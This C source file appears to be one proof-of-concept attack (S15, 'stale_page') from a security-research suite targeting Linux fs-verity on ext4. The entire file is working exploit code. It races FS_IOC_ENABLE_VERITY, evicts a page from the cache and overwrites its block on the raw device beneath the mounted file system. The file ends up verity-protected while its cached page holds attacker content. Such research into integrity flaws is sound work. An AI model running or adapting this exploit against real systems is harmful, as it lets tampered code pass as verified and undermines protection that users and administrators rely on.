/* SPDX-License-Identifier: GPL-2.0-or-later */

/*
 * S15: stale_page FILE DEVICE [keep]
 *
 * Leaves FILE, a large unsealed copy of alice on the ext4 of DEVICE, with fs-verity, alice's digest
 * and a page of Eve's in the page cache: while FS_IOC_ENABLE_VERITY builds the Merkle tree and has
 * the page with alice's code behind it, the page is dropped, its block rewritten beneath the
 * mounted file system, the page read back (nobody verifies it yet), and the block restored
 * (keep: not restored).
 */

#include "attack.h"

#include <linux/fiemap.h>
#include <linux/fs.h>
#include <sched.h>
#include <time.h>

#define DISTANCE 512 /* pages that the tree must be ahead of the page */

static uint64_t block_of(int fd, off_t offset)
{
	union {
		struct fiemap map;
		uint8_t room[sizeof(struct fiemap) + sizeof(struct fiemap_extent)];
	} request = {.map = {.fm_start = (uint64_t)offset, .fm_length = PAGE,
			     .fm_flags = FIEMAP_FLAG_SYNC, .fm_extent_count = 1}};
	const struct fiemap_extent *extent = request.map.fm_extents;

	need(ioctl(fd, FS_IOC_FIEMAP, &request) == 0, "FIEMAP");
	need(request.map.fm_mapped_extents == 1, "the page has no block");
	return extent->fe_physical + ((uint64_t)offset - extent->fe_logical);
}

static int is_cached(const uint8_t *map, size_t page)
{
	unsigned char resident;

	need(mincore((void *)(map + page * PAGE), PAGE, &resident) == 0, "mincore");
	return resident & 1;
}

static uint32_t word_at(int fd, off_t offset)
{
	uint32_t word = 0;

	need(pread(fd, &word, sizeof(word), offset) == sizeof(word), "pread");
	return word;
}

/* The page out of the cache, and in again from what is on the disk now. */
static int exchange(int fd, const uint8_t *map, off_t place)
{
	off_t page = place & ~(off_t)(PAGE - 1);

	for (int i = 0; i < 1000; i++) {
		posix_fadvise(fd, page, PAGE, POSIX_FADV_DONTNEED);
		if (!is_cached(map, (size_t)page / PAGE))
			return word_at(fd, place) == EVE;
		sched_yield();
	}
	return 0;
}

int main(int argc, char **argv)
{
	static uint8_t alice[PAGE] __attribute__((aligned(PAGE)));
	static uint8_t eve[PAGE] __attribute__((aligned(PAGE)));
	const uint32_t she = EVE;
	struct stat st;
	int status;

	need(argc > 2, "usage: stale_page FILE DEVICE [keep]");
	int fd = open(argv[1], O_RDONLY), device = open(argv[2], O_RDWR | O_DIRECT);
	need(fd >= 0 && device >= 0 && fstat(fd, &st) == 0, "open");
	need(st.st_size > 4 * DISTANCE * PAGE, "the file is too short");
	const uint8_t *map = mmap(NULL, (size_t)st.st_size, PROT_READ, MAP_SHARED, fd, 0);
	need(map != MAP_FAILED, "mmap");
	off_t place = find_alice(map, DISTANCE * PAGE), page = place & ~(off_t)(PAGE - 1);
	uint64_t block = block_of(fd, page);

	need(pread(device, alice, PAGE, (off_t)block) == PAGE, "read the device");
	need(memcmp(alice, map + page, PAGE) == 0, "this is not the page's block");
	memcpy(eve, alice, PAGE);
	memcpy(eve + place % PAGE, &she, sizeof(she));
	munmap((void *)map, (size_t)st.st_size); /* what is mapped cannot be dropped */
	map = mmap(NULL, (size_t)st.st_size, PROT_READ, MAP_SHARED, fd, 0);
	posix_fadvise(fd, 0, 0, POSIX_FADV_DONTNEED);
	need(map != MAP_FAILED && !is_cached(map, (size_t)page / PAGE), "drop the page");

	pid_t child = fork();
	if (child == 0)
		_exit(enable_verity(fd) == 0 ? DONE : KERNEL_REFUSED);
	struct timespec pause = {.tv_nsec = 200000};
	while (!is_cached(map, (size_t)page / PAGE + DISTANCE)) {
		need(waitpid(child, &status, WNOHANG) == 0, "too late");
		nanosleep(&pause, NULL);
	}
	need(pwrite(device, eve, PAGE, (off_t)block) == PAGE, "write the device");
	int evil = exchange(fd, map, place);
	need(waitpid(child, &status, WNOHANG) == 0, "the tree was complete too early");
	if (argc < 4 || strcmp(argv[3], "keep"))
		need(pwrite(device, alice, PAGE, (off_t)block) == PAGE, "restore the block");
	need(evil, "the page read back is not Eve's");
	need(waitpid(child, &status, 0) == child && WIFEXITED(status), "waitpid");
	if (WEXITSTATUS(status) != DONE) {
		printf("stale_page: FS_IOC_ENABLE_VERITY refused\n");
		return KERNEL_REFUSED;
	}
	need(word_at(fd, place) == EVE, "the page did not stay");
	printf("stale_page: fs-verity is on, and the cache has Eve's page\n");
	return DONE;
}
